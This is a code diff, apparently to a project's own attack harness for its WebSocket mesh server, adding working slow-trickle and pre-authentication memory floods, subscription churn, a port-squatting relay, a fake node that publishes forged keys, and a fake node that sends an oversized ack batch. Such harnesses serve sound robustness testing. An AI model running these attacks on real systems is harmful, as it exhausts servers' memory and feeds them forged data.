@@ -23,7 +23,7 @@ from websockets.exceptions import ConnectionClosed, InvalidHandshake
 SUBPROTOCOL = "arduino-mesh.1"
 CLIENT = {"subprotocols": [SUBPROTOCOL], "compression": None, "max_size": None, "open_timeout": 30, "proxy": None}
 
-Attack = Callable[[str], Awaitable[None]]
+Attack = Callable[..., Awaitable[None]]
 ATTACKS: dict[str, Attack] = {}
 
 
@@ -385,10 +385,174 @@ async def connect_flood(uri: str) -> None:
             say(f"round {round_}: {round_ * 220} connections")
 
 
-def main() -> None:
-    name, uri = sys.argv[1], sys.argv[2]
+# -- issue 25: attacks on trust and memory ------------------------------------------------------
+
+
+@attack("trickle")
+async def trickle(uri: str) -> None:
+    """300 clients, each all but the last bytes of a 1 MiB frame, then a byte a second (held 651 MiB, kept alive)."""
+    almost = _client_frame("x" * 2**20)[:-16]
+
+    async def client() -> None:
+        while True:
+            try:
+                _reader, writer = await raw_connect(uri)
+                writer.write(_client_frame(json.dumps({"type": "hello", "node": "trickler"})))
+                writer.write(almost)
+                await asyncio.wait_for(writer.drain(), 30)
+                attacking()
+                for _ in range(15):  # the frame's last bytes, a byte at a time, never all of them
+                    writer.write(b"x")
+                    await asyncio.sleep(1)
+                writer.transport.abort()
+            except (OSError, TimeoutError, asyncio.IncompleteReadError):
+                await asyncio.sleep(0.1)
+
+    await asyncio.gather(*(client() for _ in range(300)))
+
+
+@attack("preauth")
+async def preauth(uri: str) -> None:
+    """500 mesh clients that offer a nonce, then send 1 MiB of a frame instead of their hello (held 649 MiB)."""
+    almost = _client_frame("y" * 2**20)[:-16]
+    cut = 0
+
+    async def client() -> None:
+        nonlocal cut
+        while True:
+            try:
+                reader, writer = await raw_connect(uri, f"Mesh-Nonce: {os.urandom(32).hex()}\r\n")
+                writer.write(almost)
+                await asyncio.wait_for(writer.drain(), 30)
+                attacking()
+                await asyncio.wait_for(reader.read(), 10)
+                cut += 1
+                if cut % 100 == 0:
+                    say(f"{cut} cut")
+            except (OSError, TimeoutError, asyncio.IncompleteReadError):
+                await asyncio.sleep(0.1)
+
+    await asyncio.gather(*(client() for _ in range(500)))
+
+
+@attack("retained-churn")
+async def retained_churn(uri: str) -> None:
+    """40 '#' subscribers to a node that retains many large values, that never read, dropped and back again."""
+    rounds = 0
+
+    async def client(n: int) -> None:
+        nonlocal rounds
+        while True:
+            try:
+                _, writer = await raw_connect(uri)
+                writer.write(_client_frame(json.dumps({"type": "hello", "node": f"churn-{n}"})))
+                writer.write(_client_frame(json.dumps({"type": "sub", "id": 1, "pattern": "#"})))
+                await asyncio.wait_for(writer.drain(), 30)
+                attacking()
+                await asyncio.sleep(0.5)
+                writer.transport.abort()
+                rounds += 1
+                if rounds % 100 == 0:
+                    say(f"{rounds} subscriptions")
+            except (OSError, TimeoutError, asyncio.IncompleteReadError):
+                await asyncio.sleep(0.1)
+
+    await asyncio.gather(*(client(n) for n in range(40)))
+
+
+async def _pump(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
     try:
-        asyncio.run(ATTACKS[name](uri))
+        while data := await reader.read(65536):
+            writer.write(data)
+            await writer.drain()
+    except (OSError, asyncio.IncompleteReadError):
+        pass
+    finally:
+        writer.transport.abort()
+
+
+@attack("relay")
+async def relay(uri: str, port: str) -> None:
+    """A listener on a stopped node's port that relays every connection to a live node, bytes unchanged."""
+    parts = urlsplit(uri)
+    relayed = 0
+
+    async def forward(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        nonlocal relayed
+        relayed += 1
+        say(f"relaying connection {relayed}")
+        try:
+            far_reader, far_writer = await asyncio.open_connection(parts.hostname, parts.port)
+        except OSError:
+            writer.transport.abort()
+            return
+        await asyncio.gather(_pump(reader, far_writer), _pump(far_reader, writer))
+
+    server = await asyncio.start_server(forward, "127.0.0.1", int(port))
+    attacking()
+    async with server:
+        await server.serve_forever()
+
+
+@attack("spoof")
+async def spoof(uri: str, port: str) -> None:
+    """A squatter on a stopped node's port (no token): takes a link's subscription, publishes other nodes' keys."""
+    from websockets.asyncio.server import serve
+
+    async def fake_node(ws: object) -> None:
+        await ws.recv()  # type: ignore[attr-defined]
+        await ws.send(json.dumps({"type": "hello", "node": "ghost"}))  # type: ignore[attr-defined]
+        async for text in ws:  # type: ignore[attr-defined]
+            frames = json.loads(text)
+            for frame in frames if isinstance(frames, list) else [frames]:
+                if frame.get("type") == "sub":
+                    await ws.send(json.dumps({"type": "ack", "id": frame["id"], "data": "subscribed"}))  # type: ignore[attr-defined]
+                    forged = [
+                        {"type": "pub", "key": "clock/tick", "data": "FORGED"},
+                        {"type": "pub", "key": "tally/$state", "data": "offline"},
+                        {"type": "pub", "key": "ghost/x", "data": "ghost's own"},
+                    ]
+                    await ws.send(json.dumps(forged))  # type: ignore[attr-defined]
+                    say("published forged keys")
+
+    async with serve(fake_node, "127.0.0.1", int(port), subprotocols=[SUBPROTOCOL]):  # type: ignore[list-item]
+        attacking()
+        await asyncio.Future()
+
+
+@attack("bloated-acks")
+async def bloated_acks(uri: str, port: str) -> None:
+    """A fake node on the port a link dials: on its first connection it answers with its acks hidden in a batch
+    of 300 frames (past the limit: refused whole); then it answers fairly."""
+    from websockets.asyncio.server import serve
+
+    connections = 0
+
+    async def fake_node(ws: object) -> None:
+        nonlocal connections
+        connections += 1
+        first = connections == 1
+        await ws.recv()  # type: ignore[attr-defined]
+        await ws.send(json.dumps({"type": "hello", "node": "tally"}))  # type: ignore[attr-defined]
+        async for text in ws:  # type: ignore[attr-defined]
+            frames = json.loads(text)
+            acks = [
+                {"type": "ack", "id": f["id"], "data": "ok"} for f in (frames if isinstance(frames, list) else [frames])
+            ]
+            if first:
+                acks += [{"type": "ack", "id": 10**9 + i, "data": "padding"} for i in range(300 - len(acks))]
+                say("answered with a bloated batch")
+            await ws.send(json.dumps(acks))  # type: ignore[attr-defined]
+
+    async with serve(fake_node, "127.0.0.1", int(port), subprotocols=[SUBPROTOCOL]):  # type: ignore[list-item]
+        attacking()
+        await asyncio.Future()
+
+
+def main() -> None:
+    name, uri, *more = sys.argv[1:]
+    try:
+        asyncio.run(ATTACKS[name](uri, *more))
     except KeyboardInterrupt:
         pass
 
